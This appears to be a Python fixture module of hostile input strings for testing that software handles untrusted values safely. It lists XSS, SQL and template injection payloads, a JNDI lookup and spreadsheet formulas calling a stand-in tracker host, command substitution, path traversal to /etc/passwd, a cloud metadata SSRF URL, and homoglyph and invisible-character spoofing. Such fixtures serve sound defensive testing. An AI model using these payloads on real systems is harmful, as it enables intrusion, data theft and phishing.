"""Values that a stranger may put where another was expected."""

from __future__ import annotations

from typing import Any

ESCAPE = "\x1b[31mrouge\x1b[0m"

SCRIPTS = (
    "<script>alert('Belleroche')</script>",
    '"><svg/onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\" style='position:fixed' onclick=alert(1)>ici</a>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<style>body{background:url(http://pisteur.example/p.gif)}</style>",
    '<img src="http://pisteur.example/p.gif" width=1 height=1>',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "</td></tr></table></body></html><h1>fin</h1>",
    "<!-- --!> <![CDATA[ ]]> <?php system('id') ?>",
)
CODES = (
    "'; drop table mention; --",
    "') union select text from mention --",
    "{{7*7}} {% for x in ().__class__.__bases__ %} {#",
    "${jndi:ldap://pisteur.example/a} #{7*7} <%= 7*7 %> `id` $(id)",
    "{d.institution} %(message)s %s {0} {w.texts}",
    "[red]rouge[/] [/] [link=http://pisteur.example]ici[/link]",
    ESCAPE,
    "\x1b]0;titre\x07\x1b[2J\x9b31m",
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://pisteur.example","Belleroche")',
    "\uff1d1+1",
)
LINES = (
    "un\r\nBcc: tous@pisteur.example\r\n\r\n<b>corps</b>",
    "un\nERROR root: mot de passe perdu",
    "un\u2028deux\u2029trois\x85quatre\x0bcinq",
)
SIGNS = (
    "\u202egnp.exe\u202c \u2066caché\u2069 \u200fdroite",
    "za\u200bzie\u200c\u200d\u2060\ufeff",
    "nul\x00nul \x07\x08\x7f",
    "z" + "\u0301\u0316\u0489" * 60 + "algo",
    "\U000e0041\U000e0042 invisible \ufffe\uffff",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1",
    "https://ex ample/\x1b[31m",
    "https://belleroche.example:99999999/",
    "https://mairie@pisteur.example/",
)
TEXTS = (*SCRIPTS, *CODES, *FORMULAS, *LINES, *SIGNS, *PATHS)

MOMENTS = (
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "1970-01-01T00:00:00Z",
    "31/12/9999 23:59:59 PST",
    "01/01/0001 00:00 +1400",
    "Fri, 31 Dec 9999 23:59:59 -1400",
    "Mon, 99999999999999999999 Jan 20260000 00:00:00",
    "2026-02-30T25:61:61Z",
)
FIGURES: tuple[Any, ...] = (
    10**30,
    -(10**30),
    2**63,
    -1,
    1e308,
    float("nan"),
    float("inf"),
    "9" * 400,
    "9" * 400 + "K",
    "9" * 5_000,
    "1e400",
    "²",
    "٣٤",
)
SHAPES: tuple[Any, ...] = (True, None, "", 0, [], {}, [1], ["a", None, {}], {"a": {"b": [1]}})

ANYTHING: tuple[Any, ...] = (*TEXTS, *MOMENTS, *FIGURES, *SHAPES)

# What is only hard to set: words without an end, letters that look like others, other directions.
WRITING = (
    "W" * 5_000,
    "https://pisteur.example/" + "a" * 3_000,
    "Мaіrіе dе Vаlmоnt: vоtrе mоt dе рassе",
    "العربية تُكتب من اليمين إلى اليسار " * 20,
    "עברית נכתבת מימין לשמאל " * 20,
    "\u200b\u200c\u200d\u2060" * 400,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 200,
    "﷽" * 60,
    "漢" * 900,
)
